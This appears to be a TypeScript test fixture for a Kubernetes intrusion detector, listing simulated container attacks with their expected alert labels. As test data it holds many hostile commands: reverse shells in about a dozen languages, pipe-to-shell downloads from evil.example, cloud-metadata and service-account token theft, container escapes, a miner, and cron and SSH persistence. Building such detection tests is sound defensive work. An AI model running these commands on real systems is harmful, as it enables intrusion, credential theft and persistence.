import { fieldsOf } from '../../../operator/engine/objects/kubernetes-object.ts';
import type { KubeObject } from '../../../operator/api/metadata.ts';
import { http } from '../http.ts';
import { pod, podSpec } from '../objects.ts';
import { hour } from '../world.ts';
import { exec, type Attack } from './trace.ts';

/** A command of a shell in a session. */
const sh = (title: string, command: string): Attack => [
  title,
  (world) => exec(world, 'eve', ['sh', '-c', command]),
  ['suspicious-exec'],
  'eve',
];

/** Attacks through sessions in containers. */
export const sessionsAttacks: readonly Attack[] = [
  [
    'exec websocket get',
    (world) => exec(world, 'eve', ['sh'], { pod: 'shop/pods/web-5d4f8c7b9-x2k4v', method: 'GET' }),
    ['exec-into-pod'],
    'eve',
  ],
  [
    'attach',
    (world) => http(world, 'eve', 'POST /api/v1/namespaces/shop/pods/web-5d4f8c7b9-x2k4v/attach?stdin=true'),
    ['exec-into-pod'],
    'eve',
  ],
  [
    'portforward ws',
    (world) => http(world, 'eve', 'GET /api/v1/namespaces/shop/pods/web-5d4f8c7b9-x2k4v/portforward'),
    ['exec-into-pod:low'],
    'eve',
  ],
  [
    'pod proxy',
    (world) => http(world, 'eve', 'GET /api/v1/namespaces/shop/pods/web-5d4f8c7b9-x2k4v:8080/proxy/admin'),
    ['exec-into-pod'],
    'eve',
  ],
  [
    'exec refused by admission is an attempt',
    (world) =>
      exec(world, 'eve', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], {
        code: 403,
        annotations: { 'authorization.k8s.io/decision': 'allow' },
      }),
    ['suspicious-exec'],
    'eve',
  ],
  sh('cat token', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'),
  sh('cat token glob', 'cat /run/secrets/kube*/serv*/token'),
  sh('cat token wildcard', 'cat /var/run/secrets/*/*/token'),
  sh('find token', 'find / -name token 2>/dev/null'),
  sh('bash tcp', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'),
  sh('nc -e', 'nc 203.0.113.5 4444 -e /bin/sh'),
  sh('ncat --exec', 'ncat 203.0.113.5 4444 --exec /bin/bash'),
  sh(
    'python shell',
    `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.5",1));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
  ),
  sh('perl shell', `perl -e 'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");'`),
  sh('php shell', `php -r '$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");'`),
  sh('mkfifo', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f'),
  sh('openssl shell', 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 1.2.3.4:443 > /tmp/s'),
  sh(
    'awk shell',
    `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; } while(c != "exit") close(s); }}'`,
  ),
  sh(
    'node shell',
    `node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"1.2.3.4",function(){client.pipe(sh.stdin)})})()'`,
  ),
  sh('telnet shell', 'TF=$(mktemp -u);mkfifo $TF && telnet 10.0.0.1 4444 0<$TF | sh 1>$TF'),
  sh(
    'lua shell',
    `lua -e "require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"`,
  ),
  sh('imds curl', 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
  sh('imds v2', 'TOKEN=$(curl -X PUT "http://169.254.169.254/latest/api/token")'),
  sh(
    'gcp metadata',
    'curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  ),
  sh('gcp metadata short', 'curl -H "Metadata-Flavor: Google" http://metadata/computeMetadata/v1/'),
  sh('alibaba', 'curl http://100.100.100.200/latest/meta-data/ram/security-credentials/'),
  sh('ecs credentials', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'),
  sh('eks pod identity', 'curl http://169.254.170.23/v1/credentials'),
  sh('curl pipe', 'curl -fsSL http://evil.example/x.sh | bash'),
  sh('wget -O- pipe', 'wget -qO- http://evil.example/x.sh | sh'),
  sh('bash <(curl)', 'bash <(curl -s http://evil.example/x)'),
  sh('base64 decode', 'echo Y3VybCBodHRwOi8v | base64 -d | bash'),
  sh('download chmod', 'curl -o /tmp/x http://evil.example/x && chmod +x /tmp/x && /tmp/x'),
  sh('chmod 777', 'wget http://evil.example/x -O /tmp/x; chmod 777 /tmp/x; /tmp/x'),
  sh('kubectl download', 'curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl'),
  sh('python -c urllib', `python3 -c "import urllib.request;exec(urllib.request.urlopen('http://x/a').read())"`),
  sh('nsenter', 'nsenter -t 1 -m -u -i -n -p -- bash'),
  sh('nsenter long', 'nsenter --mount=/proc/1/ns/mnt -- /bin/sh'),
  sh('chroot host', 'chroot /host bash'),
  sh('proc root', 'ls /proc/1/root/etc'),
  sh('release_agent', 'echo "$host_path/cmd" > /tmp/cgrp/release_agent'),
  sh('docker sock', 'curl --unix-socket /var/run/docker.sock http://localhost/containers/json'),
  sh('docker -H', 'docker -H unix:///host/var/run/docker.sock run -v /:/host -it alpine'),
  sh('ctr socket', 'ctr -a /host/run/containerd/containerd.sock c ls'),
  sh('shadow', 'cat /etc/shadow'),
  sh('admin.conf', 'cat /host/etc/kubernetes/admin.conf'),
  sh('kubelet kubeconfig', 'cat /var/lib/kubelet/kubeconfig'),
  sh('kubelet pki', 'cat /host/var/lib/kubelet/pki/kubelet-client-current.pem'),
  sh('aws credentials', 'cat /root/.aws/credentials'),
  sh('environ', 'cat /proc/1/environ'),
  sh('linpeas', 'curl -L https://github.com/peass-ng/PEASS-ng/releases/latest/download/linpeas.sh | sh'),
  sh('kubelet api', 'curl -sk https://10.0.0.4:10250/run/kube-system/kube-proxy-x/kube-proxy -d cmd=id'),
  sh('kubelet pods', 'curl -sk https://10.0.0.4:10250/pods'),
  sh('cdk', './cdk evaluate --full'),
  sh('cdk run', '/tmp/cdk run shim-pwn reverse 1.2.3.4 999'),
  sh('peirates', './peirates -u'),
  sh('kubeletctl', './kubeletctl scan rce --cidr 10.0.0.0/24'),
  sh('kdigger', 'kdigger dig all'),
  sh('amicontained', './amicontained'),
  sh('nmap', 'nmap -p 10250 10.0.0.0/24'),
  sh('xmrig', './xmrig -o pool.supportxmr.com:443'),
  sh('history clear', 'history -c; rm -f /root/.bash_history'),
  sh('cronjob persistence', 'echo "* * * * * root curl http://x/a|sh" >> /host/etc/cron.d/x'),
  sh('authorized_keys', 'echo ssh-rsa AAAA >> /host/root/.ssh/authorized_keys'),
  sh('sqlmap env split', 'c""url http://evil.example/x | s""h'),
  [
    'exec direct cat',
    (world) => exec(world, 'eve', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']),
    ['suspicious-exec'],
    'eve',
  ],
  [
    'exec token path double slash',
    (world) => exec(world, 'eve', ['cat', '/var/run/secrets//kubernetes.io/./serviceaccount/token']),
    ['suspicious-exec'],
    'eve',
  ],
  [
    'kubectl debug',
    (world) => {
      const p = pod('shop/a', podSpec('web'));
      world.write('deployer', p);
      world.wait(hour);
      world.write(
        'eve',
        { ...p, spec: { ...fieldsOf(fieldsOf(p)['spec']), ephemeralContainers: [{ name: 'debugger-x', image: 'busybox' }] } } as KubeObject,
        { of: 'pods/ephemeralcontainers' },
      );
    },
    ['ephemeral-container-added'],
    'eve',
  ],
];
